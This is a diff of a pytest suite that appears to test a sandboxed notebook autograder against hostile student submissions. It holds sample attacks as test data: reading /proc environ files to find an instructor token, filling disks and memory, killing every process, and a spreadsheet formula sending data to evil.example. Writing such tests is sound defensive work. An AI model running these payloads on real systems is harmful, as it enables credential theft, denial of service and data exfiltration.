@@ -38,29 +38,37 @@ pytestmark = pytest.mark.skipif(availability() is not None, reason=f"no sandbox 
 TOKEN = "instructor-token-90210"  # in the grader's environment; must never reach a student
 RIGHT = toy.RIGHT["verdict_answer"]
 
-READ_PID_1 = RIGHT + '''
+READ_PID_1 = (
+    RIGHT
+    + """
 import glob
 for name in ["/proc/1/environ", "/proc/1/cmdline", *glob.glob("/proc/*/environ"), *glob.glob("/proc/*/cmdline")]:
     try:
         print(name, open(name, "rb").read().decode(errors="replace"))
     except OSError:
         pass
-'''
+"""
+)
 
-MANY_FILES = RIGHT + '''
+MANY_FILES = (
+    RIGHT
+    + """
 import os
 os.makedirs("junk", exist_ok=True)
 for i in range(100_000):
     open(f"junk/{i}.txt", "w").close()
-'''
+"""
+)
 
 QUADRATIC_ANSWER = "\\begin{a}" * 20_000  # 180,000 characters: about 100 s of nbconvert's maths pattern
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"click")'
-FORMULA_ERROR = f'''def pick_frames(n_frames, every):
-    raise type({FORMULA!r}, (Exception,), {{}})("see the link")'''
+FORMULA_ERROR = f"""def pick_frames(n_frames, every):
+    raise type({FORMULA!r}, (Exception,), {{}})("see the link")"""
 
-FILL_MEMORY = RIGHT + '''
+FILL_MEMORY = (
+    RIGHT
+    + """
 written = {}
 for folder in ("/dev/shm", "/tmp"):
     written[folder] = 0
@@ -73,7 +81,8 @@ for folder in ("/dev/shm", "/tmp"):
         except OSError:
             break
 print("WRITTEN", written["/dev/shm"], written["/tmp"])
-'''
+"""
+)
 
 #: attacker -> (answers replaced, autograded points it must get out of 5)
 ATTACKS = {
@@ -151,8 +160,10 @@ def test_files_left_behind_are_capped_and_feedback_is_quick(attacked):
     graded = course.autograded(toy.ASSIGNMENT, "many-files")
     assert sum(1 for p in graded.rglob("*") if p.is_file()) <= SUBMISSION_MAX_FILES + 5
     note = report.notes["many-files"]  # the kernel leaves a file or two of its own beside the junk
-    assert note.startswith("outputs left out of the graded folder: ") and \
-        f"file(s) past the limit of {SUBMISSION_MAX_FILES:,} files" in note, note
+    assert (
+        note.startswith("outputs left out of the graded folder: ")
+        and f"file(s) past the limit of {SUBMISSION_MAX_FILES:,} files" in note
+    ), note
     assert "honest-1" not in report.notes
     assert (course.root / "feedback" / "many-files" / toy.ASSIGNMENT / "toy.html").is_file()
     assert seconds < 300
@@ -204,6 +215,7 @@ def test_memory_filesystems_hold_only_their_size(attacked):
 
 # --- stopping a run: SIGTERM loses nothing, a rerun goes on ---------------------------------------
 
+
 def test_sigterm_stops_cleanly_and_a_rerun_resumes(tmp_path):
     """Finding 4: SIGTERM lost finished results; now each is recorded as it arrives and the rerun goes on."""
     import signal
@@ -213,12 +225,29 @@ def test_sigterm_stops_cleanly_and_a_rerun_resumes(tmp_path):
     course = toy.build_toy_course(tmp_path / "course", cell_timeout=60, notebook_timeout=120)
     generate_assignment(course, toy.ASSIGNMENT)
     toy.submit_answers(course, "a-quick", dict(toy.RIGHT))
-    toy.submit_answers(course, "b-slow", {**toy.RIGHT, "verdict_answer": RIGHT + "\nimport time\ntime.sleep(25)"})
+    toy.submit_answers(
+        course, "b-slow", {**toy.RIGHT, "verdict_answer": RIGHT + "\nimport time\ntime.sleep(25)"}
+    )
     toy.submit_answers(course, "c-later", dict(toy.RIGHT))
-    command = [sys.executable, "-m", "deepfakelab", "course", "grade", toy.ASSIGNMENT, "--course", str(course.root),
-               "--jobs", "1"]
-    proc = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
-                            env={**os.environ, "PYTHONUNBUFFERED": "1"})
+    command = [
+        sys.executable,
+        "-m",
+        "deepfakelab",
+        "course",
+        "grade",
+        toy.ASSIGNMENT,
+        "--course",
+        str(course.root),
+        "--jobs",
+        "1",
+    ]
+    proc = subprocess.Popen(
+        command,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+        env={**os.environ, "PYTHONUNBUFFERED": "1"},
+    )
     journal = course.root / ".deepfakelab" / "journal" / toy.ASSIGNMENT
     deadline = time.monotonic() + 180
     while not (journal / "a-quick.json").is_file() and time.monotonic() < deadline:
@@ -242,7 +271,9 @@ def test_sigterm_stops_cleanly_and_a_rerun_resumes(tmp_path):
 
 # --- honest students beside hostile ones, graded again and again ----------------------------------
 
-KILL_EVERYTHING = RIGHT + '''
+KILL_EVERYTHING = (
+    RIGHT
+    + """
 import os, signal
 for pid in sorted((int(p) for p in os.listdir("/proc") if p.isdigit()), reverse=True):
     if pid != os.getpid():
@@ -250,8 +281,12 @@ for pid in sorted((int(p) for p in os.listdir("/proc") if p.isdigit()), reverse=
             os.kill(pid, signal.SIGKILL)
         except OSError:
             pass
-'''
-UNKILLABLE = RIGHT + "\nimport time\nwhile True:\n    try:\n        time.sleep(0.05)\n    except KeyboardInterrupt:\n        pass"
+"""
+)
+UNKILLABLE = (
+    RIGHT
+    + "\nimport time\nwhile True:\n    try:\n        time.sleep(0.05)\n    except KeyboardInterrupt:\n        pass"
+)
 
 
 def test_honest_students_keep_full_marks_beside_hostile_ones_every_time(tmp_path):
@@ -267,14 +302,17 @@ def test_honest_students_keep_full_marks_beside_hostile_ones_every_time(tmp_path
     toy.submit_answers(course, "hostile-unkillable", {**toy.RIGHT, "verdict_answer": UNKILLABLE})
     toy.submit_answers(course, "hostile-killer", {**toy.RIGHT, "verdict_answer": KILL_EVERYTHING})
     for round_ in range(3):
-        report = grade_assignment(course, toy.ASSIGNMENT, GradeOptions(jobs=2, force=True, progress=False,
-                                                                       feedback=False))
+        report = grade_assignment(
+            course, toy.ASSIGNMENT, GradeOptions(jobs=2, force=True, progress=False, feedback=False)
+        )
         for student in honest:
             assert _points(report.graded[student]) == 5.0, (round_, student, report.graded[student].notebooks)
             assert student not in report.failed, (round_, report.failed[student])
         assert _points(report.graded["hostile-loop"]) == toy.KINDS["loop"]
         assert _points(report.graded["hostile-memory_hog"]) == toy.KINDS["memory_hog"]
-        assert _points(report.graded["hostile-unkillable"]) == 4.0  # only the cell that hung: the kernel is restarted
+        assert (
+            _points(report.graded["hostile-unkillable"]) == 4.0
+        )  # only the cell that hung: the kernel is restarted
         assert _points(report.graded["hostile-killer"]) == 5.0
 
 
@@ -285,8 +323,19 @@ def test_feedback_after_grading_by_hand_keeps_the_policy(attacked, capsys):
     course, *_ = attacked
     page = course.root / "feedback" / "honest-1" / toy.ASSIGNMENT / "toy.html"
     page.unlink()
-    code = main(["course", "feedback", toy.ASSIGNMENT, "--course", str(course.root), "--student", "honest-1",
-                 "--student", "nobody"])
+    code = main(
+        [
+            "course",
+            "feedback",
+            toy.ASSIGNMENT,
+            "--course",
+            str(course.root),
+            "--student",
+            "honest-1",
+            "--student",
+            "nobody",
+        ]
+    )
     printed = capsys.readouterr().out
     assert code == 1 and "nobody" in printed and "not graded yet" in printed
     assert page.is_file() and 'http-equiv="Content-Security-Policy"' in page.read_text()
